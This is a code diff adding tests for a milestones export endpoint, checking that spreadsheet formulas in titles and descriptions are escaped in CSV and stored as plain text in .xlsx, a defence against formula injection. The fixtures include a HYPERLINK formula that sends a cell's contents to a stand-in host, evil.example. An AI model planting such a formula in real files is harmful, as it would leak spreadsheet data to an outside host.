@@ -134,6 +134,48 @@ describe('exporting the milestones and initiatives lists', () => {
     expect(row).toHaveLength(headers.length);
   });
 
+  describe('a text a spreadsheet would run as a formula', () => {
+    const formulas = {
+      title: '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+      description: '\t=1+1',
+    };
+    const exported = async (format: 'csv' | 'xlsx') => {
+      const m = await w.f.milestone({ initiativeId: w.initiatives.a1.id, ...formulas });
+      return get(`/api/milestones/export.${format}`, {
+        filter: JSON.stringify({ id: [m.id] }),
+      }).expect(200);
+    };
+
+    it('is text with a leading apostrophe in a CSV', async () => {
+      await t.dataSource.query('UPDATE initiatives SET title = $2 WHERE id = $1', [
+        w.initiatives.a1.id,
+        '@SUM(A1:A9)',
+      ]);
+      const [, row] = parseCsv((await exported('csv')).body.toString('utf8').slice(1));
+      expect(row.slice(2, 6)).toEqual([
+        "'@SUM(A1:A9)",
+        expect.any(String),
+        `'${formulas.title}`,
+        `'${formulas.description}`,
+      ]);
+    });
+
+    it('is a plain text cell, as it was written, in an .xlsx', async () => {
+      const { sheet } = await readSheet((await exported('xlsx')).body);
+      for (const [column, text] of [
+        [5, formulas.title],
+        [6, formulas.description],
+      ] as const) {
+        const cell = sheet.getRow(2).getCell(column);
+        expect({ type: cell.type, value: cell.value, formula: cell.formula }).toEqual({
+          type: ExcelJS.ValueType.String,
+          value: text,
+          formula: undefined,
+        });
+      }
+    });
+  });
+
   it('exports initiatives with translated status and health', async () => {
     const res = await get('/api/initiatives/export.csv', {
       filter: JSON.stringify({ health: 'green' }),
